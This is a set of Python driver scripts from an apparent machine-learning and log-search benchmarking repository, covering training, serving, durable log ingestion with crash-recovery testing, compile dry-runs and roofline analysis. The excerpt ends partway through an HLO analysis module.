    from .mesh import make_smoke_mesh

    arch = get_arch(arch_id)
    cell = arch.shape(shape) if shape else next(s for s in arch.shapes if s.kind == "train")
    assert cell.kind == "train", f"{cell.name} is not a train shape"
    mesh = make_smoke_mesh()
    rng = np.random.default_rng(seed)

    with mesh:
        built = build_cell(arch, cell, mesh, smoke=smoke)
        cfg = arch.make_smoke_config() if smoke else arch.make_config(cell)
        params = init_params(jax.random.key(seed), _specs_for(arch, cfg), jnp.float32)
        opt_cfg = _opt_cfg(arch)
        opt_state = adamw_init(params, opt_cfg)
        start_step = 0
        if ckpt_dir:
            restored, manifest = restore_latest(ckpt_dir, params)
            if restored is not None:
                params = restored
                start_step = manifest["step"]
                print(f"resumed from step {start_step}")
        step_fn = jax.jit(built.fn)
        losses = []
        for i in range(start_step, start_step + steps):
            batch = synth_batch(arch, cell, cfg, rng, smoke)
            t0 = time.time()
            params, opt_state, metrics = step_fn(params, opt_state, batch)
            loss = float(metrics["loss"])
            losses.append(loss)
            if i < start_step + 5 or (i + 1) % 10 == 0:
                print(f"step {i:5d} loss {loss:.4f} ({time.time()-t0:.2f}s)")
            assert np.isfinite(loss), f"non-finite loss at step {i}"
            if ckpt_dir and (i + 1) % ckpt_every == 0:
                save_checkpoint(ckpt_dir, i + 1, params)
        return losses


def _specs_for(arch, cfg):
    from ..models import gnn as gnn_mod
    from ..models import recsys as rec_mod
    from ..models import transformer as lm_mod

    if arch.family == "lm":
        return lm_mod.param_specs(cfg)
    if arch.family == "gnn":
        return gnn_mod.meshgraphnet_param_specs(cfg)
    return {
        "xdeepfm": rec_mod.xdeepfm_param_specs,
        "sasrec": rec_mod.sasrec_param_specs,
        "mind": rec_mod.mind_param_specs,
        "two-tower-retrieval": rec_mod.twotower_param_specs,
    }[arch.arch_id](cfg)


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--arch", required=True)
    ap.add_argument("--shape", default=None)
    ap.add_argument("--steps", type=int, default=20)
    ap.add_argument("--smoke", action="store_true", default=True)
    ap.add_argument("--full", dest="smoke", action="store_false")
    ap.add_argument("--ckpt-dir", default=None)
    ap.add_argument("--ckpt-every", type=int, default=10)
    args = ap.parse_args()
    losses = train(
        args.arch,
        args.shape,
        steps=args.steps,
        smoke=args.smoke,
        ckpt_dir=args.ckpt_dir,
        ckpt_every=args.ckpt_every,
    )
    print(f"done — first loss {losses[0]:.4f}, last loss {losses[-1]:.4f}")
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
