"""Serving driver: ``python -m repro.launch.serve --arch <id> [--smoke]``.

LM archs: batched greedy generation through the LMServer (prefill + decode
steps — the same functions the decode dry-run cells lower).
Recsys archs: scores a batch of requests / runs the retrieval cell.
"""

from __future__ import annotations

import argparse
import time

import jax
import jax.numpy as jnp
import numpy as np


def serve_lm(arch, *, smoke: bool, n_requests: int, new_tokens: int, seed: int = 0):
    from ..models.params import init_params
    from ..models.transformer import param_specs
    from ..serve import LMServer

    cfg = arch.make_smoke_config() if smoke else arch.make_config(None)
    params = init_params(jax.random.key(seed), param_specs(cfg), jnp.float32)
    server = LMServer(params, cfg, max_batch=4, max_seq=96)
    rng = np.random.default_rng(seed)
    for _ in range(n_requests):
        plen = int(rng.integers(4, 16))
        server.submit(rng.integers(0, cfg.vocab, plen), max_new_tokens=new_tokens)
    t0 = time.time()
    results = server.run()
    dt = time.time() - t0
    total = sum(len(v) for v in results.values())
    print(f"served {len(results)} requests / {total} tokens in {dt:.2f}s")
    return results


def serve_recsys(arch, *, smoke: bool, seed: int = 0):
    from ..models import recsys as rec_mod
    from ..models.params import init_params
    from .train import _specs_for

    cfg = arch.make_smoke_config() if smoke else arch.make_config(None)
    params = init_params(jax.random.key(seed), _specs_for(arch, cfg), jnp.float32)
    rng = np.random.default_rng(seed)
    b = 8
    aid = arch.arch_id
    if aid == "two-tower-retrieval":
        batch = {
            "user_id": jnp.asarray(rng.integers(0, cfg.n_users, 1), jnp.int32),
            "history": jnp.asarray(rng.integers(0, cfg.n_items, (1, cfg.history_len)), jnp.int32),
            "candidates": jnp.arange(min(cfg.n_candidates, cfg.n_items)),
        }
        vals, ids = rec_mod.twotower_retrieve(params, batch, cfg, top_k=5)
        print("top-5 candidates:", np.asarray(ids)[0], "scores:", np.round(np.asarray(vals)[0], 3))
        return ids
    if aid == "xdeepfm":
        sizes = cfg.field_sizes()
        fields = np.stack([rng.integers(0, s, size=b) for s in sizes], axis=1).astype(np.int32)
        scores = rec_mod.xdeepfm_forward(params, {"fields": jnp.asarray(fields)}, cfg)
    elif aid == "sasrec":
        batch = {"history": jnp.asarray(rng.integers(0, cfg.n_items, (b, cfg.seq_len)), jnp.int32)}
        scores = rec_mod.sasrec_forward(params, batch, cfg)
    else:
        batch = {"history": jnp.asarray(rng.integers(0, cfg.n_items, (b, cfg.seq_len)), jnp.int32)}
        scores = rec_mod.mind_forward(params, batch, cfg)
    print("scores shape:", np.asarray(scores).shape)
    return scores


def main() -> int:
    from ..configs.base import get_arch

    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--arch", required=True)
    ap.add_argument("--smoke", action="store_true", default=True)
    ap.add_argument("--full", dest="smoke", action="store_false")
    ap.add_argument("--requests", type=int, default=6)
    ap.add_argument("--new-tokens", type=int, default=8)
    args = ap.parse_args()
    arch = get_arch(args.arch)
    if arch.family == "lm":
        serve_lm(arch, smoke=args.smoke, n_requests=args.requests, new_tokens=args.new_tokens)
    elif arch.family == "recsys":
        serve_recsys(arch, smoke=args.smoke)
    else:
        raise SystemExit("gnn archs have no serving mode")
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
