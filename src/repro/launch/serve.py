"""Serving driver: ``python -m repro.launch.serve --arch <id> [--smoke]``.

LM archs: batched greedy generation through the LMServer (prefill + decode
steps — the same functions the decode dry-run cells lower).
Recsys archs: scores a batch of requests / runs the retrieval cell.
Log search: ``--logs`` serves a mixed structured-query workload (boolean
AND/OR/NOT/Source ASTs plus tiered/degenerate Regex probes,
docs/query_api.md) through the SearchServer;
``--logs --data-dir PATH`` boots from a persisted store directory written by
``repro.launch.ingest`` (mmap'd sketches — docs/persistence.md).
"""

from __future__ import annotations

import argparse
import time

import jax
import jax.numpy as jnp
import numpy as np


def serve_lm(arch, *, smoke: bool, n_requests: int, new_tokens: int, seed: int = 0):
    from ..models.params import init_params
    from ..models.transformer import param_specs
    from ..serve import LMServer

    cfg = arch.make_smoke_config() if smoke else arch.make_config(None)
    params = init_params(jax.random.key(seed), param_specs(cfg), jnp.float32)
    server = LMServer(params, cfg, max_batch=4, max_seq=96)
    rng = np.random.default_rng(seed)
    for _ in range(n_requests):
        plen = int(rng.integers(4, 16))
        server.submit(rng.integers(0, cfg.vocab, plen), max_new_tokens=new_tokens)
    t0 = time.time()
    results = server.run()
    dt = time.time() - t0
    total = sum(len(v) for v in results.values())
    print(f"served {len(results)} requests / {total} tokens in {dt:.2f}s")
    return results


def serve_recsys(arch, *, smoke: bool, seed: int = 0):
    from ..models import recsys as rec_mod
    from ..models.params import init_params
    from .train import _specs_for

    cfg = arch.make_smoke_config() if smoke else arch.make_config(None)
    params = init_params(jax.random.key(seed), _specs_for(arch, cfg), jnp.float32)
    rng = np.random.default_rng(seed)
    b = 8
    aid = arch.arch_id
    if aid == "two-tower-retrieval":
        batch = {
            "user_id": jnp.asarray(rng.integers(0, cfg.n_users, 1), jnp.int32),
            "history": jnp.asarray(rng.integers(0, cfg.n_items, (1, cfg.history_len)), jnp.int32),
            "candidates": jnp.arange(min(cfg.n_candidates, cfg.n_items)),
        }
        vals, ids = rec_mod.twotower_retrieve(params, batch, cfg, top_k=5)
        print("top-5 candidates:", np.asarray(ids)[0], "scores:", np.round(np.asarray(vals)[0], 3))
        return ids
    if aid == "xdeepfm":
        sizes = cfg.field_sizes()
        fields = np.stack([rng.integers(0, s, size=b) for s in sizes], axis=1).astype(np.int32)
        scores = rec_mod.xdeepfm_forward(params, {"fields": jnp.asarray(fields)}, cfg)
    elif aid == "sasrec":
        batch = {"history": jnp.asarray(rng.integers(0, cfg.n_items, (b, cfg.seq_len)), jnp.int32)}
        scores = rec_mod.sasrec_forward(params, batch, cfg)
    else:
        batch = {"history": jnp.asarray(rng.integers(0, cfg.n_items, (b, cfg.seq_len)), jnp.int32)}
        scores = rec_mod.mind_forward(params, batch, cfg)
    print("scores shape:", np.asarray(scores).shape)
    return scores


def serve_logs(
    *,
    smoke: bool,
    n_requests: int,
    seed: int = 0,
    data_dir: str | None = None,
    clients: int = 0,
    workers: int | None = None,
):
    """Structured log-search serving: mixed AND/OR/NOT/Source/Regex batches.

    With ``data_dir`` the server boots from a persisted store directory
    (``repro.launch.ingest`` writes one): sealed sketches are mmap'd and
    batch payloads stay on disk, so startup cost is independent of store
    size.  Without it, a demo corpus is ingested in-memory first.

    ``clients > 0`` switches to the closed-loop concurrent driver
    (docs/concurrency.md): the server's background drain loop starts, and
    ``clients`` threads each submit → wait → submit ``n_requests`` queries;
    every drained batch searches a store snapshot, so this path is safe even
    while another thread ingests.  ``workers`` sizes the shared search pool.
    """
    from ..data import LogGenerator, make_dataset
    from ..logstore import create_store
    from ..serve import SearchServer

    if data_dir is not None:
        t0 = time.time()
        server = SearchServer.from_directory(data_dir, max_batch=16, workers=workers)
        store = server.store
        sd = store.storedir
        print(f"booted from {data_dir} in {(time.time()-t0)*1e3:.1f} ms "
              f"({store.name} store, {store.n_batches} batches, "
              f"{getattr(store, 'n_segments', 0)} segments, "
              f"read {sd.bytes_read}/{sd.total_file_bytes()} bytes)")
        # workload vocabulary sampled from the stored lines themselves
        from ..data.loghub import GeneratedDataset

        sample: list[str] = []
        for b in list(store.batches.values())[:4]:
            sample.extend(b.lines())
        ds = GeneratedDataset(
            lines=sample or ["empty store"],
            sources=sorted(set(store.batch_sources().values())) or [""],
            name="served-store",
        )
        workload = LogGenerator(seed + 1).structured_queries(ds, n_requests)
    else:
        n_lines = 4_000 if smoke else 60_000
        ds = make_dataset("small", n_lines, seed=seed)
        store = create_store(
            "sharded",
            n_shards=4, lines_per_segment=1024, lines_per_batch=64, max_batches=4096,
        )
        t0 = time.time()
        for line, src in zip(ds.lines, ds.sources):
            store.ingest(line, src)
        store.finish()
        print(f"ingested {n_lines} lines in {time.time()-t0:.2f}s "
              f"({store.n_batches} batches, {store.n_segments} segments)")
        server = SearchServer(store, max_batch=16, workers=workers)
        # the same mixed AND/OR/NOT/Source workload bench_queries measures
        workload = LogGenerator(seed + 1).structured_queries(ds, n_requests)
    # regex queries ride the same served mix (ISSUE 10): literal-bearing
    # patterns lower onto the gram-posting plan, the degenerate quarter
    # exercises the server's fallback-scan counter
    workload = list(workload) + _regex_queries(ds, max(2, n_requests // 2), seed + 2)
    if clients > 0:
        return _serve_logs_concurrent(server, ds, n_requests, clients, seed)
    rids = [server.submit(q) for q in workload]
    t0 = time.time()
    results = server.run_detailed()
    dt = time.time() - t0
    lines = sum(len(r.lines) for r in results.values())
    verified = sum(r.n_verified_batches for r in results.values())
    print(f"served {len(rids)} structured queries in {dt:.3f}s "
          f"({len(rids)/max(dt,1e-9):.1f} q/s, {lines} lines, "
          f"{verified} batches verified, {server.n_planned_batches} planned batches, "
          f"{server.n_fallback_scans} fallback scans)")
    for rid in rids[:4]:
        r = results[rid]
        print(f"  {r.query} -> {len(r.lines)} lines "
              f"(cand={r.n_candidate_batches}, verify={r.timings['verify_s']*1e3:.2f}ms)")
    return results


def _regex_queries(ds, n: int, seed: int) -> list:
    """Tiered regex probes over the served corpus, or a degenerate-only mix
    when the corpus is too small to tier (e.g. a 4-batch boot sample)."""
    from ..core.querylang import Regex
    from ..eval.workloads import WorkloadGenerator

    try:
        gen = WorkloadGenerator(ds, seed=seed)
        return list(gen.regex_workload(n, tier="mixed", degenerate_ratio=0.25).queries)
    except ValueError:
        return [Regex(r"\d+"), Regex(r"[a-z]+[0-9]+")][: max(0, n)]


def _serve_logs_concurrent(server, ds, n_requests: int, clients: int, seed: int):
    """Closed-loop multi-client load driver over the background drain loop."""
    import threading

    from ..data import LogGenerator

    latencies: list[list[float]] = [[] for _ in range(clients)]
    failures: list[BaseException] = []

    def client(ci: int) -> None:
        gen = LogGenerator(seed + 100 + ci)
        try:
            for q in gen.structured_queries(ds, n_requests):
                t = time.perf_counter()
                rid = server.submit(q)
                server.result(rid, timeout=60.0)
                latencies[ci].append(time.perf_counter() - t)
        except BaseException as e:  # surface, don't hang the join
            failures.append(e)

    threads = [
        threading.Thread(target=client, args=(ci,), name=f"client-{ci}")
        for ci in range(clients)
    ]
    t0 = time.time()
    with server:  # start() the drain loop; stop() on exit
        for t in threads:
            t.start()
        for t in threads:
            t.join()
    dt = time.time() - t0
    if failures:
        raise failures[0]
    lats = sorted(x for per in latencies for x in per)
    total = len(lats)
    p50 = lats[total // 2] if lats else 0.0
    p95 = lats[int(total * 0.95)] if lats else 0.0
    print(f"{clients} clients x {n_requests} closed-loop queries: "
          f"{total} served in {dt:.3f}s = {total/max(dt,1e-9):.1f} q/s "
          f"(p50 {p50*1e3:.1f} ms, p95 {p95*1e3:.1f} ms, "
          f"{server.n_planned_batches} planned batches, "
          f"{server.n_fallback_scans} fallback scans)")
    return {"qps": total / max(dt, 1e-9), "p50_s": p50, "p95_s": p95}


def main() -> int:
    from ..configs.base import get_arch

    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--arch", default=None)
    ap.add_argument("--logs", action="store_true", help="serve structured log search")
    ap.add_argument("--data-dir", default=None,
                    help="with --logs: boot from a persisted store directory "
                         "(see repro.launch.ingest) instead of ingesting a demo corpus")
    ap.add_argument("--clients", type=int, default=0,
                    help="with --logs: run N closed-loop client threads against "
                         "the background drain loop (0 = legacy inline drain)")
    ap.add_argument("--workers", type=int, default=None,
                    help="with --logs: size of the shared search worker pool "
                         "(see docs/concurrency.md)")
    ap.add_argument("--smoke", action="store_true", default=True)
    ap.add_argument("--full", dest="smoke", action="store_false")
    ap.add_argument("--requests", type=int, default=None,
                    help="number of requests (default: 6 for --arch, 8 for --logs)")
    ap.add_argument("--new-tokens", type=int, default=8)
    args = ap.parse_args()
    if args.logs:
        serve_logs(
            smoke=args.smoke,
            n_requests=8 if args.requests is None else args.requests,
            data_dir=args.data_dir,
            clients=args.clients,
            workers=args.workers,
        )
        return 0
    if args.arch is None:
        raise SystemExit("--arch is required unless --logs is given")
    arch = get_arch(args.arch)
    if arch.family == "lm":
        serve_lm(arch, smoke=args.smoke,
                 n_requests=6 if args.requests is None else args.requests,
                 new_tokens=args.new_tokens)
    elif arch.family == "recsys":
        serve_recsys(arch, smoke=args.smoke)
    else:
        raise SystemExit("gnn archs have no serving mode")
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
