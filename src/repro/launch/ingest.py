"""Ingest driver: durable, partitioned log ingestion (paper Fig. 1).

``python -m repro.launch.ingest --lines 100000 --root /tmp/copr-ingest``
generates a production-shaped synthetic stream and runs it into a
*persistent* :class:`~repro.logstore.ShardedCoprStore` (docs/persistence.md):
every line hits the write-ahead log, every segment rotation checkpoints the
sealed sketch + batch payloads to disk, and ``finish()`` + ``close()`` leave
a directory the serve driver boots from via mmap (``--serve-check`` reopens
and reports cold-open cost).  ``--crash-test`` abandons the store mid-stream
with a torn WAL tail and proves reopen recovers every fsync'd line.
"""

from __future__ import annotations

import argparse
import shutil
import time
from pathlib import Path


def main() -> int:
    from ..core.querylang import Contains
    from ..data import make_dataset
    from ..logstore import create_store, open_store

    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--lines", type=int, default=50000)
    ap.add_argument("--root", default="/tmp/copr-ingest")
    ap.add_argument("--shards", type=int, default=4)
    ap.add_argument("--lines-per-segment", type=int, default=8192)
    ap.add_argument(
        "--batch-size",
        type=int,
        default=4096,
        help="lines per ingest_many() call (1 = legacy per-line ingest)",
    )
    ap.add_argument("--crash-test", action="store_true")
    args = ap.parse_args()

    root = Path(args.root)
    if root.exists():
        shutil.rmtree(root)

    def open_fresh():
        return create_store(
            "sharded",
            path=root,
            n_shards=args.shards,
            lines_per_segment=args.lines_per_segment,
            lines_per_batch=128,
            max_batches=4096,
        )

    ds = make_dataset("1m", args.lines, seed=7)
    store = open_fresh()

    t0 = time.time()
    crash_at = args.lines // 2 if args.crash_test else None
    step = max(1, args.batch_size)
    i = 0
    while i < args.lines:
        # group-committed batches; the crash point lands on a batch boundary
        # so the torn tail still tears mid-frame
        hi = min(i + step, args.lines, crash_at + 1 if crash_at is not None else args.lines)
        store.ingest_many(ds.lines[i:hi], ds.sources[i:hi])
        i = hi
        if crash_at is not None and i > crash_at:
            store.wal.sync()
            # simulate a crash with a torn tail: lose the object, truncate the
            # WAL mid-record — reopen must replay every surviving record
            wal_path = store.wal.path
            del store
            with open(wal_path, "r+b") as f:
                f.truncate(max(0, wal_path.stat().st_size - 3))
            print(f"simulated crash at line {i - 1} (WAL tail torn)")
            store = open_fresh()
            recovered = sum(b.n_lines for b in store.writer.sealed) + sum(
                len(v) for v in store.writer.open.values()
            )
            print(f"recovered: {recovered} lines replayed from the WAL")
            crash_at = None
    store.finish()
    store.close()
    dt = time.time() - t0
    rate = ds.raw_bytes / dt / 1e6
    print(
        f"ingested {args.lines} lines ({ds.raw_bytes/1e6:.1f} MB) in {dt:.1f}s "
        f"= {args.lines/dt:,.0f} lines/s, {rate:.1f} MB/s "
        f"(batch={step}); durable store at {root}"
    )

    # cold reopen: mmap'd sketches, lazily-decompressed batches
    t1 = time.time()
    reopened = open_store(root)
    open_ms = (time.time() - t1) * 1e3
    sd = reopened.storedir
    print(
        f"cold open: {open_ms:.1f} ms, {reopened.n_sealed_segments} mmap'd segments, "
        f"read {sd.bytes_read} of {sd.total_file_bytes()} bytes "
        f"({100 * sd.bytes_read / max(1, sd.total_file_bytes()):.2f}%)"
    )
    needle = ds.lines[len(ds.lines) // 3].split()[-1]
    hits = reopened.search(Contains(needle))
    print(f"verification query '{needle}': {len(hits)} hits")
    assert hits.lines, "ingested data must be findable after reopen"
    # per-component accounting, measured from the directory (docs/results.md)
    bd = reopened.storage_breakdown()
    comps = ", ".join(f"{k.removeprefix('index_')}={v:,}" for k, v in bd.items() if v)
    print(f"storage breakdown ({sum(bd.values()):,} B total): {comps}")
    reopened.close()
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
