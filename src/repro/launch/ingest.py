"""Ingest driver: journaled, partitioned log ingestion (paper Fig. 1).

``python -m repro.launch.ingest --lines 100000 --root /tmp/copr-ingest``
generates a production-shaped synthetic stream, runs it through the
COPR ingest pipeline (event log → partition → segments), seals everything,
and answers a couple of verification queries.  ``--crash-test`` kills the
pipeline mid-stream and proves journal replay reproduces identical segments.
"""

from __future__ import annotations

import argparse
import shutil
import time
from pathlib import Path


def main() -> int:
    from ..data import IngestPipeline, make_dataset

    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--lines", type=int, default=50000)
    ap.add_argument("--root", default="/tmp/copr-ingest")
    ap.add_argument("--shards", type=int, default=4)
    ap.add_argument("--crash-test", action="store_true")
    args = ap.parse_args()

    root = Path(args.root)
    if root.exists():
        shutil.rmtree(root)

    ds = make_dataset("1m", args.lines, seed=7)
    pipe = IngestPipeline(root, n_shards=args.shards, lines_per_segment=8192)

    t0 = time.time()
    crash_at = args.lines // 2 if args.crash_test else None
    for i, (line, src) in enumerate(zip(ds.lines, ds.sources)):
        pipe.ingest(line, src)
        if crash_at is not None and i == crash_at:
            pipe.journal.sync()
            print(f"simulating crash at line {i}")
            del pipe  # lose all in-memory state
            pipe = IngestPipeline(root, n_shards=args.shards, lines_per_segment=8192)
            replayed = pipe.recover()
            print(f"recovered: replayed {replayed} journal records")
            crash_at = None
    pipe.seal_all()
    dt = time.time() - t0
    rate = ds.raw_bytes / dt / 1e6
    print(
        f"ingested {args.lines} lines ({ds.raw_bytes/1e6:.1f} MB) in {dt:.1f}s "
        f"= {rate:.1f} MB/s; {len(pipe.manifest)} segments"
    )
    needle = ds.lines[len(ds.lines) // 3].split()[-1]
    from ..core.querylang import Contains

    hits = pipe.search_lines(Contains(needle))
    print(f"verification query '{needle}': {len(hits)} hits")
    assert hits, "ingested data must be findable"
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
