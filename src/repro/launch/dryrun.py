import os

os.environ["XLA_FLAGS"] = (
    os.environ.get("XLA_FLAGS", "") + " --xla_force_host_platform_device_count=512"
).strip()

"""Multi-pod dry-run: lower + compile every (arch × shape) on the production
meshes and record memory/cost/collective analysis.

The two lines above MUST precede any jax-touching import (jax locks the
device count at first backend init) — and must NOT move into conftest or
pyproject: smoke tests and benchmarks see 1 device.

Usage:
    PYTHONPATH=src python -m repro.launch.dryrun [--arch A] [--shape S]
        [--mesh pod|multipod|both] [--out experiments/dryrun]
"""

import argparse
import json
import time
import traceback
from pathlib import Path


def run_cell(arch_id: str, shape_name: str, mesh_name: str, out_dir: Path) -> dict:
    import jax

    from ..configs.base import get_arch
    from .cells import build_cell
    from .hlo_analysis import (
        collective_bytes,
        executed_flops_bytes,
        flops_and_bytes,
        memory_analysis_dict,
    )
    from .mesh import MESH_SPECS, make_production_mesh, mesh_chips

    arch = get_arch(arch_id)
    cell = arch.shape(shape_name)
    mesh = make_production_mesh(**MESH_SPECS[mesh_name])
    rec: dict = {
        "arch": arch_id,
        "shape": shape_name,
        "mesh": mesh_name,
        "chips": mesh_chips(mesh),
        "status": "ok",
    }
    t0 = time.time()
    try:
        with mesh:
            built = build_cell(arch, cell, mesh)
            lowered = built.lower()
            t1 = time.time()
            compiled = lowered.compile()
            t2 = time.time()
            rec["model_flops"] = built.model_flops
            rec["meta"] = built.meta
            rec["lower_seconds"] = round(t1 - t0, 2)
            rec["compile_seconds"] = round(t2 - t1, 2)
            rec["cost_analysis"] = flops_and_bytes(compiled)
            rec["memory_analysis"] = memory_analysis_dict(compiled)
            hlo = compiled.as_text()
            rec["collectives"] = collective_bytes(hlo).to_dict()
            rec["executed"] = executed_flops_bytes(hlo)
            rec["hlo_bytes"] = len(hlo)
    except Exception as e:  # a failure here is a bug in the system — record it
        rec["status"] = "error"
        rec["error"] = f"{type(e).__name__}: {e}"
        rec["traceback"] = traceback.format_exc()[-4000:]
    out_dir.mkdir(parents=True, exist_ok=True)
    fn = out_dir / f"{mesh_name}__{arch_id}__{shape_name}.json"
    fn.write_text(json.dumps(rec, indent=1, default=str))
    return rec


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--arch", default=None, help="one arch id (default: all)")
    ap.add_argument("--shape", default=None, help="one shape name (default: all)")
    ap.add_argument("--mesh", default="both", choices=["pod", "multipod", "both"])
    ap.add_argument("--out", default="experiments/dryrun")
    args = ap.parse_args()

    from ..configs.base import all_cells

    out_dir = Path(args.out)
    meshes = ["pod", "multipod"] if args.mesh == "both" else [args.mesh]
    cells = [
        (a, s)
        for a, s in all_cells()
        if (args.arch is None or a == args.arch) and (args.shape is None or s == args.shape)
    ]
    n_fail = 0
    for mesh_name in meshes:
        for arch_id, shape_name in cells:
            rec = run_cell(arch_id, shape_name, mesh_name, out_dir)
            ok = rec["status"] == "ok"
            n_fail += 0 if ok else 1
            if ok:
                ca, ma = rec["cost_analysis"], rec["memory_analysis"]
                print(
                    f"[{mesh_name:8s}] {arch_id:24s} {shape_name:14s} OK "
                    f"flops/dev={ca.get('flops', 0):.3e} "
                    f"tmp={ma.get('temp_size_in_bytes', 0)/2**30:.2f}GiB "
                    f"coll={rec['collectives']['total_bytes']/2**30:.2f}GiB "
                    f"(lower {rec['lower_seconds']}s compile {rec['compile_seconds']}s)",
                    flush=True,
                )
            else:
                print(
                    f"[{mesh_name:8s}] {arch_id:24s} {shape_name:14s} FAIL {rec['error']}",
                    flush=True,
                )
    print(f"\ndry-run complete: {len(cells) * len(meshes) - n_fail} ok, {n_fail} failed")
    return 1 if n_fail else 0


if __name__ == "__main__":
    raise SystemExit(main())
