"""Roofline analysis over dry-run artifacts (deliverable g).

Reads the per-cell JSON records written by ``launch/dryrun.py`` and derives
the three roofline terms per (arch × shape × mesh):

    compute term    = executed_FLOPs_per_device / peak_FLOPs_per_chip
    memory term     = executed_bytes_per_device / HBM_bandwidth_per_chip
    collective term = collective_bytes_per_device / (link_bw × links)

Executed FLOPs/bytes come from the loop-aware HLO analyzer
(hlo_analysis.executed_flops_bytes), NOT from compiled.cost_analysis(),
which counts while bodies once (documented there).  MODEL_FLOPS is the
analytic useful-work estimate attached by the cell builder (6·N·D dense /
6·N_active·D MoE for train, 2·N·D for prefill/decode).

Hardware constants (trn2 class):
    667 TFLOP/s bf16 per chip · 1.2 TB/s HBM per chip · 46 GB/s per
    NeuronLink, 8 links per chip.

Usage:
    PYTHONPATH=src python -m repro.launch.roofline [--dir experiments/dryrun]
        [--mesh pod] [--format md|json]
"""

from __future__ import annotations

import argparse
import json
from dataclasses import dataclass
from pathlib import Path

PEAK_FLOPS = 667e12  # bf16 FLOP/s per chip
HBM_BW = 1.2e12  # B/s per chip
LINK_BW = 46e9  # B/s per NeuronLink
LINKS_PER_CHIP = 8


@dataclass
class RooflineRow:
    arch: str
    shape: str
    mesh: str
    chips: int
    compute_s: float
    memory_s: float
    collective_s: float
    model_flops: float
    executed_flops_global: float
    dominant: str
    roofline_fraction: float  # compute term / max(all terms)
    useful_ratio: float  # MODEL_FLOPS / executed global FLOPs

    def bound_time(self) -> float:
        return max(self.compute_s, self.memory_s, self.collective_s)


def analyze_record(rec: dict) -> RooflineRow | None:
    if rec.get("status") != "ok":
        return None
    ex = rec.get("executed", {})
    coll = rec.get("collectives", {})
    chips = rec["chips"]
    flops_dev = ex.get("executed_flops", 0.0)
    bytes_dev = ex.get("executed_bytes", 0.0)
    coll_dev = coll.get("total_bytes", 0.0)
    compute_s = flops_dev / PEAK_FLOPS
    memory_s = bytes_dev / HBM_BW
    collective_s = coll_dev / (LINK_BW * LINKS_PER_CHIP)
    terms = {"compute": compute_s, "memory": memory_s, "collective": collective_s}
    dominant = max(terms, key=terms.get)
    bound = max(terms.values())
    model_flops = rec.get("model_flops", 0.0)
    executed_global = flops_dev * chips
    return RooflineRow(
        arch=rec["arch"],
        shape=rec["shape"],
        mesh=rec["mesh"],
        chips=chips,
        compute_s=compute_s,
        memory_s=memory_s,
        collective_s=collective_s,
        model_flops=model_flops,
        executed_flops_global=executed_global,
        dominant=dominant,
        roofline_fraction=(compute_s / bound) if bound > 0 else 0.0,
        useful_ratio=(model_flops / executed_global) if executed_global else 0.0,
    )


def load_rows(dirpath: Path, mesh: str | None = None) -> list[RooflineRow]:
    rows = []
    for fn in sorted(dirpath.glob("*.json")):
        rec = json.loads(fn.read_text())
        if mesh and rec.get("mesh") != mesh:
            continue
        row = analyze_record(rec)
        if row:
            rows.append(row)
    return rows


def suggest(row: RooflineRow) -> str:
    """One sentence: what would move the dominant term down."""
    if row.dominant == "compute":
        if row.useful_ratio < 0.6:
            return (
                "compute-bound with low useful ratio — cut remat recompute "
                "(save layer boundaries) or fuse redundant f32 upcasts"
            )
        return "compute-bound near-useful — only larger batch / faster matmul tier helps"
    if row.dominant == "memory":
        return (
            "memory-bound — widen fused-kernel regions (norm/rope/softmax stay in "
            "SBUF), drop f32 residual materialization to bf16, increase arithmetic "
            "intensity per HBM pass"
        )
    return (
        "collective-bound — overlap collectives with compute (async all-gather), "
        "re-shard to reduce cross-axis traffic, or compress gradients"
    )


def to_markdown(rows: list[RooflineRow]) -> str:
    out = [
        "| arch | shape | mesh | compute s | memory s | collective s | bound | "
        "roofline frac | useful ratio |",
        "|---|---|---|---|---|---|---|---|---|",
    ]
    for r in rows:
        out.append(
            f"| {r.arch} | {r.shape} | {r.mesh} | {r.compute_s:.4f} | {r.memory_s:.4f} "
            f"| {r.collective_s:.5f} | {r.dominant} | {r.roofline_fraction:.2f} "
            f"| {r.useful_ratio:.2f} |"
        )
    return "\n".join(out)


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--dir", default="experiments/dryrun")
    ap.add_argument("--mesh", default=None)
    ap.add_argument("--format", default="md", choices=["md", "json"])
    args = ap.parse_args()
    rows = load_rows(Path(args.dir), args.mesh)
    if args.format == "json":
        print(json.dumps([r.__dict__ for r in rows], indent=1))
    else:
        print(to_markdown(rows))
        print()
        for r in rows:
            print(f"- {r.arch} × {r.shape} [{r.mesh}]: {r.dominant}-bound — {suggest(r)}")
    return 0


if __name__ == "__main__":
    main()
