"""Post-SPMD HLO analysis: collective-traffic accounting for the roofline.

``cost_analysis()`` reports FLOPs and memory bytes but NOT collective bytes —
those are parsed from the compiled module text: every all-gather /
all-reduce / reduce-scatter / all-to-all / collective-permute contributes its
operand bytes × an algorithmic factor (ring-algorithm bytes actually moved
per participating device):

    all-gather       (n-1)/n × output_bytes
    all-reduce       2 (n-1)/n × payload_bytes
    reduce-scatter   (n-1)/n × input_bytes
    all-to-all       (n-1)/n × payload_bytes
    collective-permute   1 × payload_bytes

n = replica-group size parsed per op.  Ops inside while loops (the layer scan
/ microbatch scan) execute `trip_count` times — the parser multiplies bytes
for ops whose enclosing computation is a while body, using the loop trip
count when it is statically recoverable from the HLO.
"""

from __future__ import annotations

import re
from collections import defaultdict
from dataclasses import dataclass, field

_DTYPE_BYTES = {
    "pred": 1,
    "s8": 1, "u8": 1, "s16": 2, "u16": 2, "s32": 4, "u32": 4, "s64": 8, "u64": 8,
    "f8e4m3fn": 1, "f8e5m2": 1, "bf16": 2, "f16": 2, "f32": 4, "f64": 8,
    "c64": 8, "c128": 16,
}

_SHAPE_RE = re.compile(r"(\w+)\[([\d,]*)\]")
_COLLECTIVE_RE = re.compile(
